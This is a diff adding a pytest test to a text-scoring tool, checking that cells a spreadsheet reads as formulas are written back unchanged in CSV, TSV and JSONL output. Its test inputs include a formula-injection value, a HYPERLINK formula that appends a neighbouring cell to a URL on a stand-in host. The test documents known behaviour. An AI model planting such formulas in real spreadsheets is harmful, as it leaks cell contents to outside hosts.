@@ -3,6 +3,7 @@
 import codecs
 import csv
 import io
+import json
 import re
 import sys
 from pathlib import Path
@@ -507,6 +508,20 @@ def test_the_scores_of_an_excel_csv_utf8_file_keep_its_byte_order_mark(tmp_path,
     assert written == (codecs.BOM_UTF8 if suffix != ".jsonl" else b"") + unmarked
     assert not unmarked.startswith(codecs.BOM_UTF8)
     assert read_table(tmp_path / f"excel.out{suffix}").text.tolist() == texts
+
+
+def test_cells_a_spreadsheet_takes_for_formulas_are_written_as_they_are(tmp_path, capsys):
+    # A Windows user's audit: the README warned only of "=", where "+", "-", "@", a tab and a
+    # carriage return start a formula too. Its fuller warning rests on this: every such cell
+    # is written as it is (a "'" before it would change the texts read back), in each format.
+    texts = ['=HYPERLINK("https://x.example/?"&A2,"details")', "+49 30 1234", "-Send tanks now", "@SUM(1)",
+             "\t=1+1", "\r=1+1"]
+    path = tmp_path / "in.jsonl"
+    path.write_text("".join(json.dumps({"text": text}) + "\n" for text in texts))
+    for suffix in (".csv", ".tsv", ".jsonl"):
+        assert main(["score", str(path), "-o", str(tmp_path / f"out{suffix}"), "--no-progress"]) == 0
+        assert read_table(tmp_path / f"out{suffix}")["text"].tolist() == texts
+    capsys.readouterr()
 
 
 @pytest.mark.parametrize(("command", "codec"), [
